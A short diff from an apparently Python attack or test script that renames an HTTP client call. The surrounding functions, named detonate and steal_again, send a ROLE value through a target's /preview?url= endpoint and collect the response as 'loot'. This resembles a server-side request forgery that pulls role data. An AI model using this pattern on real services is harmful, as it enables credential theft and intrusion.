@@ -35,12 +35,12 @@ def inject(admin, hosts):
 
 
 def detonate(thief, address):
-    loot = json.loads(thief.http(f"http://{address}/preview?url={ROLE}").body)
+    loot = json.loads(thief.get(f"http://{address}/preview?url={ROLE}").body)
     return {"loot": loot}
 
 
 def steal_again(thief, address):
-    assert thief.http(f"http://{address}/preview?url={ROLE}").ok
+    assert thief.get(f"http://{address}/preview?url={ROLE}").ok
 
 
 def mine(thief, instance):
